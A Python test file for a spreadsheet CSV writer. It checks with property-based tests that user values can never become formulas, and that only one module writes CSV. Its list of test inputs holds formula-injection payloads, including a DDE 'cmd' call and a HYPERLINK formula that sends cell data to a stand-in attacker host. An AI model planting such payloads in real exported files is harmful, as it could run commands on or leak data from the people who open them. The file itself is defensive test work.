"""No file that people open in a spreadsheet holds a formula that somebody else typed."""

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from api.spreadsheet import FORMULA, write_rows

ROOT = Path(__file__).parent.parent
ONLY_WRITER = "api/spreadsheet.py"
ATTACKS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    "+33612345678",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '=HYPERLINK("https://evil.example?"&A1)',
    '";=1+1;"',
    "a\n=1+1",
)


@given(
    st.lists(st.one_of(st.sampled_from(ATTACKS), st.text(max_size=8), st.integers(), st.none()), min_size=1, max_size=5)
)
def test_no_cell_is_a_formula_and_nothing_of_it_is_lost(values: list[str | int | None]) -> None:
    columns = [str(number) for number in range(len(values))]
    file = io.StringIO(newline="")
    write_rows(file, columns, [dict(zip(columns, values, strict=True))])
    file.seek(0)
    heading, row = csv.reader(file)
    assert heading == columns
    for value, cell in zip(values, row, strict=True):
        if isinstance(value, str):
            assert not cell.startswith(FORMULA)
        assert cell.removeprefix("'") == ("" if value is None else str(value)).removeprefix("'")


def test_no_other_place_writes_csv() -> None:
    writing = re.compile(r"csv\.(writer|DictWriter)|text/csv|to_csv")
    found = {
        str(path.relative_to(ROOT))
        for folder in ("domain", "application", "infrastructure", "projections", "api")
        for path in (ROOT / folder).rglob("*.py")
        if writing.search(path.read_text())
    }
    assert found == {ONLY_WRITER}
